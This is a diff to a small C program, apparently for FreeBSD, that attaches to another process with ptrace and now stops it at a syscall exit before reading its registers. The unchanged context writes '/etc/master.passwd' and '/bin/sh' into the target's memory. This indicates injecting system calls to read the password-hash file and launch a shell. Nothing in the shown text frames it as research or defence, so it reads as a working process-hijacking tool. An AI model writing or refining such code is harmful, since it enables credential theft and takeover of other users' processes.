@@ -12,7 +12,6 @@
 #include <err.h>
 #include <fcntl.h>
 #include <machine/reg.h>
-#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -58,9 +57,12 @@ main(int argc, char **argv)
 
 	if (pid <= 0)
 		errx(1, "whose calls?");
-	if (ptrace(PT_ATTACH, pid, NULL, 0) < 0 || waitpid(pid, NULL, 0) < 0 ||
-	    ptrace(PT_GETREGS, pid, (caddr_t)&regs, 0) < 0)
+	if (ptrace(PT_ATTACH, pid, NULL, 0) < 0 || waitpid(pid, NULL, 0) < 0)
 		err(1, "attach to process %d", (int)pid);
+	/* it waits in a read: when that ends calls can be made */
+	if (ptrace(PT_TO_SCX, pid, (caddr_t)1, 0) < 0 || waitpid(pid, NULL, 0) < 0 ||
+	    ptrace(PT_GETREGS, pid, (caddr_t)&regs, 0) < 0)
+		err(1, "hold process %d", (int)pid);
 	u_long at = (u_long)regs.r_rsp - BELOW_STACK;
 	syscallarg_t secret = (syscallarg_t)put(pid, at, "/etc/master.passwd");
 	syscallarg_t sh = (syscallarg_t)put(pid, at + WORD, "/bin/sh");
